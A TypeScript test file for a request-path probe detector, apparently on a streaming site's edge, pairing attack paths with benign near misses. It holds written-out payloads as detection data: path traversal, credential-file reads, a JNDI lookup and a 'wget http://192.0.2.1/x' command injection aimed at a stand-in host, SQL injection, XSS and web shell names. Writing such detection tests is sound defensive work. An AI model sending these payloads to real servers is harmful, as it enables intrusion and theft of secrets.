import { PROBES, findProbe } from '../../../lambdas/core/edge/probes';
import { makeCrowd } from '../../../local/crowd/crowd';
import { crowdOptions, fieldsOf, linesOf } from '../../local/crowd-lines';

/** Goal: one request is enough only where nobody means well by it. Method: a hit and a near miss of each. */
const CASES: readonly (readonly [id: string, hit: string, miss: string])[] = [
  ['X01_traversal', '/cgi-bin/.%2e/.%2e/bin/sh', '/live/hd/../audio/1.ts'],
  ['X01_traversal', '/a/b/../../../secret', '/a/b/../../secret'],
  ['X01_traversal', '/..', '/...'],
  ['X01_traversal', '/page?file=../../secret', '/page?return=../home'],
  ['X01_traversal', '/a?f=..%5c..%5cboot', '/a..b/c'],
  ['X02_traversal_cgi', '/static/%252e%252e/key', '/static/%252e/key'],
  ['X03_passwd', '/show?f=/etc/passwd', '/etc/passwords-explained'],
  ['X03_passwd', '/proc/self/environ', '/process/self/environment'],
  ['X03_passwd', '/windows/win.ini', '/js/win.init.js'],
  ['X04_jndi', '/?x=${jndi:ldap://192.0.2.1/a}', '/?x=${index}'],
  ['X04_jndi', '/%24%7B%24%7Benv:A:-j%7Dndi', '/$%7Bname%7D'],
  ['X05_ognl', '/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime', '/java.lang.html'],
  ['X05_ognl', '/?class.module.classLoader.URLs=0', '/?class.module=3'],
  ['X06_sql', '/?id=1+UNION+SELECT+1,2--', '/?q=union+select+committee'],
  ['X06_sql', '/?id=1+and+sleep(5)', '/sleep (5).jpg'],
  ['X06_sql', "/?id=1'+or+1=1", "/?q=rock'n'roll or jazz"],
  ['X07_script', '/?q=<script>x', '/manuscript'],
  ['X07_script', '/?u=javascript:alert(1)', '/?q=javascript: the good parts'],
  ['X08_template', '/?q={{7*7}}', '/?q={{name}}'],
  ['X08_template', '/?q=${url:UTF-8:https://192.0.2.1}', '/?q=${curl}'],
  ['X09_secrets', '/.env', '/.environment'],
  ['X09_secrets', '/app/.git/config', '/.github'],
  ['X09_secrets', '/.aws/credentials', '/.well-known/assetlinks.json'],
  ['X10_config', '/config.php', '/player/config.json'],
  ['X10_config', '/credentials.json', '/credentials'],
  ['X10_config', '/backup.sql', '/backups'],
  ['X11_phpunit', '/vendor/phpunit/phpunit/src/x.php', '/vendor/php/x.js'],
  ['X12_shell', '/s72_Shell.php', '/powershell.php'],
  ['X12_shell', '/c99.php', '/c99.html'],
  ['X13_think', '/?s=index/%5Cthink%5Capp', '/think/app'],
  ['X13_think', '/?function=call_user_func_array', '/?function=call_user'],
  ['X14_telerik', '/Telerik.Web.UI.WebResource.axd?type=rau', '/WebResource.axd'],
  ['X15_appliances', '/dana-na/auth/url_default/welcome.cgi', '/danas/na'],
  ['X15_appliances', '/php/ztp_gate.php/.js.map', '/php/app.js.map'],
  ['X16_vmware', '/catalog-portal/ui/oauth/verify?x=1', '/catalog/ui/oauth/verify'],
  ['X17_confluence', '/setup/setupadministrator.action', '/setup/guide'],
  ['X17_confluence', '/json/setup-restore.action', '/setup-restore'],
  ['X18_admin_tools', '/phpMyAdmin/index.php', '/phpmyadministration'],
  ['X18_admin_tools', '/pma2/', '/pmagazine'],
  ['X18_admin_tools', '/solr/admin/info', '/solr/select'],
  ['X19_cgi', '/cgi-bin/luci', '/cgi-bin/search.cgi'],
  ['X19_cgi', '/cgi-bin/sh', '/cgi-bin/share.pl'],
  ['X20_dokuwiki_glpi', '/cacti/remote_agent.php?x', '/remote_agents'],
  ['X21_grafana', '/a/b/c/public/plugins/alert/../x', '/public/plugins/alert/x'],
  ['X22_scanner_names', '/w00tw00t.at.ISC', '/woot'],
  ['X22_scanner_names', '/nikto-test-AbC.html', '/clanok/nikto-nevie'],
  ['X23_graphapi', '/phpinfo.php', '/phpinfo-tutorial'],
  ['X24_modules', '/?action=revslider_show_image&img=x', '/wp-content/plugins/revslider/a.js'],
  ['X24_modules', '/modules/simpleslideshow/uploadimage.php', '/modules/blockcart/blockcart.css'],
  ['X25_shell_words', '/?login=$(echo${IFS}x)', '/?price=$(usd)'],
  ['X25_shell_words', '/?a=1;wget http://192.0.2.1/x', '/?a=1;wget'],
  ['X26_web_inf', '/s/x/_/;/WEB-INF/web.xml', '/web-info/'],
  ['X27_zimbra', '/service/extension/backup/mboximport?a=b', '/service/backup'],
];

/** What people, players, apps and crawlers ask for. */
const ORDINARY = [
  ...['/', '/index.html', '/favicon.ico', '/robots.txt', '/sitemap.xml', '/ads.txt'],
  ...[
    '/apple-touch-icon.png',
    '/.well-known/security.txt',
    '/.well-known/apple-app-site-association',
  ],
  ...['/.well-known/acme-challenge/FM_x-1', '/manifest.json', '/site.webmanifest', '/sw.js'],
  ...['/config.json', '/player/config.json', '/settings.json', '/env.js', '/environment.js'],
  ...['/static/js/main.8d7f.js', '/static/js/win.init.js', '/static/css/app.css', '/fonts/a.woff2'],
  ...['/js/app.js.map', '/_next/static/chunks/pages/_app-1.js', '/_next/data/x/index.json'],
  ...['/live/main.m3u8', '/live/v720.m3u8', '/live/v720/1.m4s', '/live/v720/init.mp4'],
  ...['/live/main.m3u8?_HLS_msn=12&_HLS_part=3', '/live/v1/part12.3.m4s', '/live/manifest.mpd'],
  ...['/live/hd/../audio/1.ts', '/live/a/b/../../c/1.ts', '/live/./v720/1.ts', '//live/v720/1.ts'],
  ...['/live/1.ts?CMCD=br%3D3200%2Csid%3D%226e2fb550%22', '/live/1.ts?token=eyJhbGciOi.J9_x-y'],
  ...['/live/1.ts?Policy=eyJTdGF0ZW1lbnQiOlt7fQ__&Signature=a~b-c&Key-Pair-Id=K1', '/key?id=1'],
  ...[
    '/drm/widevine/license',
    '/drm/fairplay/cert.cer',
    '/api/v1/session',
    '/api/sessions/12/beat',
  ],
  ...[
    '/api/login',
    '/login?next=%2Faccount',
    '/signin',
    '/oauth/authorize?redirect_uri=https://a.b/c',
  ],
  ...['/auth/callback?code=x&state=y', '/token', '/password/reset', '/account/password', '/admin'],
  ...[
    '/admin/articles/1/edit',
    '/wp-login.php',
    '/wp-admin/admin-ajax.php',
    '/wp-json/wp/v2/posts',
  ],
  ...['/wp-content/uploads/2026/11/a.jpg', '/wp-content/plugins/revslider/public/assets/js/x.js'],
  ...['/wp-content/plugins/duplicator/readme.txt', '/wp-includes/js/jquery.js', '/xmlrpc.php'],
  ...['/modules/blockcart/blockcart.css', '/themes/a/b.css', '/cgi-bin/search.cgi?q=a'],
  ...['/search?q=union+select+committee', '/search?q=credit+union', "/search?q=rock'n'roll"],
  ...[
    '/search?q=javascript:+the+good+parts',
    '/search?q=c%2B%2B',
    '/search?q=100%25',
    '/search?q=%',
  ],
  ...['/search?q=a+%26+b', '/search?q=%E6%97%A5%E6%9C%AC', '/search?q=%F0%9F%8E%BE', '/?q=<3'],
  ...['/article/etc/passwords-explained', '/article/how-to-sleep-5-hours'],
  ...['/article/what-is-a-shell', '/article/phpinfo-tutorial', '/clanok/nikto-nevie', '/pmagazine'],
  ...['/article/a..b', '/article/wait...', '/a?return=../home', '/a?u=https%3A%2F%2Fb.example%2Fc'],
  ...[
    '/images/sleep (5).jpg',
    '/images/a%20b.jpg',
    '/images/a@2x.png',
    '/img?w=100&h=100&fit=crop',
  ],
  ...['/download/backup-guide.pdf', '/download/setup.exe', '/setup/guide', '/upload.php', '/feed/'],
  ...['/collect?v=1&t=event&dl=https%3A%2F%2Fa.example%2F', '/beacon', '/metrics', '/health'],
  ...['/graphql?query=%7Bme%7Bid%7D%7D', '/rss', '/amp/article/1', '/ru/новости', '/de/über-uns'],
  ...['/manager', '/solr/select?q=a', '/actuator/health', '/server-status', '/vendor/js/a.js'],
];

describe('findProbe', () => {
  it.each(CASES)('%s: finds %s, and nothing in %s', (id, hit, miss) => {
    expect([findProbe(hit), findProbe(miss)]).toEqual([id, undefined]);
  });

  it('has a hit and a near miss of each pattern', () => {
    const ids = PROBES.map(({ id }) => id);
    expect(ids.filter((id) => !CASES.some(([known]) => known === id))).toEqual([]);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids).toEqual([...ids].sort());
  });

  it('finds nothing in what is ordinary', () => {
    expect(new Set(ORDINARY).size).toBeGreaterThanOrEqual(100);
    expect(ORDINARY.flatMap((path) => findProbe(path) ?? [])).toEqual([]);
  });

  it('finds nothing in any request of a crowd and its machines', () => {
    const lines = linesOf(makeCrowd(crowdOptions({ seed: 3, viewers: 300, minutes: 6 })));
    const paths = new Set(
      lines.flatMap(({ line }) => {
        const read = fieldsOf(line);
        return read.ok ? [read.fields['cs-uri-stem']!] : [];
      }),
    );
    expect(paths.size).toBeGreaterThan(500);
    expect([...paths].flatMap((path) => findProbe(path) ?? [])).toEqual([]);
  });

  it('looks at the first 2,048 characters', () => {
    const at = (n: number) => findProbe(`/${'a'.repeat(n - 1)}/.env`);
    expect([at(2_043), at(2_044)]).toEqual(['X09_secrets', undefined]);
  });

  it('takes any text, and any length, in little time', () => {
    const texts = [
      '/'.repeat(5_000),
      '/..'.repeat(2_000),
      `/?${'${'.repeat(1_000)}`,
      '%'.repeat(3_000),
    ];
    texts.push('union select '.repeat(200), "'or'".repeat(600), `/${'a/'.repeat(1_000)}..`);
    const start = performance.now();
    for (const text of texts) findProbe(text);
    expect(performance.now() - start).toBeLessThan(500);
  });
});
